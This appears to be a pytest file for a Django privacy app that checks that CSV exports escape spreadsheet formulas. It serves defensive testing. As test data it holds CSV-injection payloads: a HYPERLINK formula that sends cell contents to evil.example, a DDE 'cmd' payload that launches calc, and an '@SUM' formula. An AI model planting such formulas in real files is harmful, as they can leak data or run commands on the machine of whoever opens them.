"""The download's CSV files open as data in a spreadsheet (OWASP CSV Injection): a name that is
a formula starts with a quote, a phone number keeps its +, and data.json stays exact."""

import csv
import io
import json
import zipfile

import pytest

from pledge.cases.rights import rights_archive
from pledge.cases.tests.seeding import verified_case
from pledge.inventory.services import policy_publish
from pledge.people.models import Organization
from pledge.people.tests.factories import demo_requester
from pledge.vault.actors import Actor

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english"), pytest.mark.clock]

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A2,"x")'
FORMULA_PHONE = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def acme(db):
    policy_publish(summary={"en": "v1"}, material=True, published_by="test")
    return Organization.objects.create(name="@SUM(1+1)*cmd", domain="acme-robots.cn")


def export(person, officer) -> bytes:
    """The copy staff download on the person's verified request."""
    case = verified_case(person, officer, kind="copy")
    return rights_archive(person=person, actor=Actor.staff(officer), case=case).content


def person_row(archive_bytes: bytes) -> tuple[dict, dict]:
    """The person's row in csv/people.person.csv, and their record in data.json."""
    with zipfile.ZipFile(io.BytesIO(archive_bytes)) as archive:
        table = archive.read("csv/people.person.csv").decode("utf-8-sig")
        data = json.loads(archive.read("data.json"))
    [row] = csv.DictReader(io.StringIO(table))
    [record] = data["sections"]["people.person"]["records"]
    return row, record


def test_a_formula_name_comes_out_as_text_and_the_phone_unchanged(acme, privacy_officer):
    person = demo_requester(
        "eve", organization=acme, policy_version=1, name=FORMULA_NAME, phone="+86 138 0013 8000"
    )
    row, record = person_row(export(person, privacy_officer))
    assert row["name"] == "'" + FORMULA_NAME
    assert row["organisation"] == "'@SUM(1+1)*cmd"
    assert row["phone"] == "+86 138 0013 8000"
    assert record["name"] == FORMULA_NAME  # the JSON copy is exact


def test_a_formula_in_the_phone_column_is_neutralised(acme, privacy_officer):
    person = demo_requester("mallory", organization=acme, policy_version=1, phone=FORMULA_PHONE)
    row, _record = person_row(export(person, privacy_officer))
    assert row["phone"] == "'" + FORMULA_PHONE


def test_the_readme_says_why_a_cell_starts_with_a_quote(acme, privacy_officer):
    person = demo_requester("eve", organization=acme, policy_version=1, name=FORMULA_NAME)
    with zipfile.ZipFile(io.BytesIO(export(person, privacy_officer))) as archive:
        readme = archive.read("README.txt").decode()
    assert "starts with an apostrophe (')" in readme
